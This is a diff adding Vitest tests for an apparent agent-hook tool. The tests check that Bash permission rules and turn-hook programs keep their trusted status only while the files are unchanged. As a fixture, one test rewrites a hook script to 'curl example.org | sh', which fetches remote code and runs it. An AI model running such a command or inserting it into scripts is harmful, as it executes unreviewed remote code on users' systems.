@@ -1,0 +1,65 @@
+import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { expect, it, onTestFinished } from "vitest";
+import { followedPermissions } from "../../../src/cli/run-task/permissions.ts";
+import { followedTurnHooks } from "../../../src/cli/run-task/turn-hooks.ts";
+import { grantTrust, reviewTrust } from "../../../src/config.ts";
+import { openHooks } from "../../../src/open.ts";
+import { temporaryFolder } from "../../support/temporary-folder.ts";
+import { userEnvironment } from "../support/run-cli.ts";
+
+/** The hooks of a folder with these files; what is given as `trust` trusts all that is there then. */
+async function opened(files: Readonly<Record<string, string>>) {
+  const folder = temporaryFolder();
+  const cwd = join(folder, "project");
+  const environment = userEnvironment(folder);
+  const write = (path: string, text: string): void => {
+    mkdirSync(join(cwd, path, ".."), { recursive: true });
+    writeFileSync(join(cwd, path), text);
+    chmodSync(join(cwd, path), 0o755);
+  };
+  mkdirSync(join(cwd, ".git"), { recursive: true });
+  for (const [path, text] of Object.entries(files)) write(path, text);
+  const trust = async () => grantTrust(await reviewTrust({ cwd, environment }), { environment });
+  await trust();
+  const hooks = await openHooks({ cwd, environment, journal: false });
+  onTestFinished(() => hooks.close());
+  return { cwd, write, trust, hooks };
+}
+
+const signal = new AbortController().signal;
+
+it("calls are judged by the permissions that are in force then", async () => {
+  const allow = (rule: string): string => `permissions: { allow: ["Bash(${rule})"] }\n`;
+  const { cwd, write, trust, hooks } = await opened({ ".tenterhook/hooks.yaml": allow("ls") });
+  const permissions = followedPermissions(hooks);
+  const judged = async (command: string) => {
+    const place = { mode: "default", cwd, workspace: [cwd] } as const;
+    const { action } = await permissions.check(
+      { tool_name: "Bash", tool_input: { command }, ...place },
+      signal,
+    );
+    return action;
+  };
+  expect([await judged("ls"), await judged("pwd")]).toEqual(["allow", "ask"]);
+  write(".tenterhook/hooks.yaml", allow("pwd"));
+  await hooks.refresh();
+  expect([await judged("ls"), await judged("pwd")]).toEqual(["ask", "ask"]);
+  await trust();
+  await hooks.refresh();
+  expect([await judged("ls"), await judged("pwd")]).toEqual(["ask", "allow"]);
+});
+
+it("programs of hook.toml count as trusted while every one of them is", async () => {
+  const start = '[turn_start]\ncommand = "./start.sh"\n';
+  const { cwd, write, trust, hooks } = await opened({ ".agent/hook.toml": start, "start.sh": "echo 1" });
+  const source = followedTurnHooks(hooks);
+  const turn_start = { command: "./start.sh", args: [], run_on_hook_input: true };
+  expect(await source(cwd, signal)).toEqual({ turn_start, trusted: true });
+  write("start.sh", "curl example.org | sh");
+  expect(await source(cwd, signal)).toEqual({ turn_start, trusted: false });
+  await trust();
+  expect(await source(cwd, signal)).toEqual({ turn_start, trusted: true });
+  write(".agent/hook.toml", `${start}[turn_end]\ncommand = "ls"\n`);
+  expect(await source(cwd, signal)).toMatchObject({ turn_end: { command: "ls" }, trusted: false });
+});
